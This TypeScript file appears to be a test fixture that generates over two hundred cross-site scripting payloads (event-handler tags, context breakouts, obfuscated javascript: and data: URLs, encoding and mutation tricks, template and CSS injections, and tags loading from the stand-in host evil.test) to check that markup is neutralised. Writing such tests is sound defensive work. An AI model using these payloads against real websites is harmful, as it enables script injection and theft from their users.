/** What a payload calls when it runs, with its number; a page before the test defines it. */
export const CALLED = 'zq'
type Make = (run: string) => string

/** Elements that run something by themselves, or when they are looked at. */
const ELEMENTS: readonly Make[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg/onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<svg><set onbegin=${run} attributeName=x to=1>`,
  (run) => `<body onload=${run}>`,
  (run) => `<iframe onload=${run}></iframe>`,
  (run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  (run) => `<iframe src="javascript:${run}"></iframe>`,
  (run) => `<object data="javascript:${run}" onerror=${run}></object>`,
  (run) => `<embed src=x onerror=${run}>`,
  (run) => `<details open ontoggle=${run}>x</details>`,
  (run) => `<video><source onerror=${run}></video>`,
  (run) => `<audio src=x onerror=${run}></audio>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<select autofocus onfocus=${run}></select>`,
  (run) => `<textarea autofocus onfocus=${run}></textarea>`,
  (run) => `<marquee onstart=${run}>x</marquee>`,
  (run) => `<link rel=stylesheet href=x onerror=${run}>`,
  (run) => `<style onload=${run}></style>`,
  (run) => `<math><mtext><script>${run}</script></mtext></math>`,
  (run) => `<p style="animation:x 1s" onanimationstart=${run} tabindex=1 onfocus=${run}>x</p>`,
]
/** What ends the place where a text may stand. */
const ENDS: readonly string[] = ['', '">', "'>", '</title>', '</textarea>', '</script>', '-->']
/** Addresses that run something, as they are written to pass a look. */
const ADDRESSES: readonly Make[] = [
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => ` javascript:${run}`,
  (run) => `java\tscript:${run}`,
  (run) => `javascript\n:${run}`,
  (run) => `javascript&colon;${run}`,
  (run) => `&#106;avascript:${run}`,
  (run) => `javascript://x%0a${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString('base64')}`,
  (run) => `vbscript:${run}`,
]
const LINKS: readonly Make[] = [
  (to) => to,
  (to) => `<a href="${to}">x</a>`,
  (to) => `<form action="${to}"><button>x</button></form>`,
]
/** The same word, written so that one reader sees markup where another saw none. */
const WRITTEN: readonly Make[] = [
  (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run) => `&#60;script&#62;${run}&#60;/script&#62;`,
  (run) => `&amp;lt;script&amp;gt;${run}`,
  (run) => `%3Cscript%3E${run}%3C/script%3E`,
  (run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  (run) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  (run) => `＜script＞${run}＜/script＞`,
  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  (run) => `<scr\u00adipt>${run}</script>`,
  (run) => `<ScRiPt >${run}</sCrIpT >`,
  (run) => `<script\n>${run}</script\n>`,
  (run) => `<<script>${run}//<</script>`,
  (run) => `<img src=x onerror\n=\n${run}>`,
  (run) => `<img/src="x"/onerror=${run}>`,
  (run) => `<img src=x onerror="&#116;op.${run.replace('top.', '')}">`,
  (run) => `<template><script>${run}</script></template>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<math><style><img src=x onerror=${run}></style></math>`,
  (run) => `<svg><style><img src=x onerror=${run}></style></svg>`,
]
/** Where a text is put together into code, styles or templates. */
const WOVEN: readonly Make[] = [
  (run) => `';${run};//`,
  (run) => `";${run};//`,
  (run) => `\\';${run};//`,
  (run) => `\`-${run}-\``,
  (run) => `\${${run}}`,
  (run) => `#{${run}}`,
  (run) => `{{${run}}}`,
  (run) => `{{constructor.constructor("${run}")()}}`,
  (run) => `[[${run}]]`,
  (run) => `<%= ${run} %>`,
  (run) => `{% ${run} %}`,
  (run) => `"}${run}{"`,
  (run) => `x;background:url(javascript:${run})`,
  (run) => `x:expression(${run})`,
  (run) => `</style><style>*{background:url("javascript:${run}")}`,
  (run) => `]]><script>${run}</script>`,
  (run) => `<?xml version="1.0"?><script>${run}</script>`,
]
/** What asks another host. */
const ABROAD: readonly string[] = [
  '<img src="https://evil.test/x.png">',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<style>@import "https://evil.test/x.css"</style>',
  '<base href="https://evil.test/">',
  '<iframe src="https://evil.test/"></iframe>',
  '<img srcset="https://evil.test/x.png 1x">',
  '<script src="https://evil.test/x.js"></script>',
  '<p style="background:url(https://evil.test/x.png)">x',
]

const MAKES: readonly Make[] = [
  ...ENDS.flatMap((end) =>
    ELEMENTS.map(
      (make): Make =>
        (run) =>
          end + make(run),
    ),
  ),
  ...LINKS.flatMap((link) =>
    ADDRESSES.map(
      (make): Make =>
        (run) =>
          link(make(run)),
    ),
  ),
  ...WRITTEN,
  ...WOVEN,
  ...ABROAD.map(
    (text): Make =>
      () =>
        text,
  ),
]

/** promises.md D3: more than two hundred texts that would run something, or ask another host, where a text becomes markup. */
export const PAYLOADS: readonly string[] = MAKES.map((make, at) => make(`top.${CALLED}(${at})`))
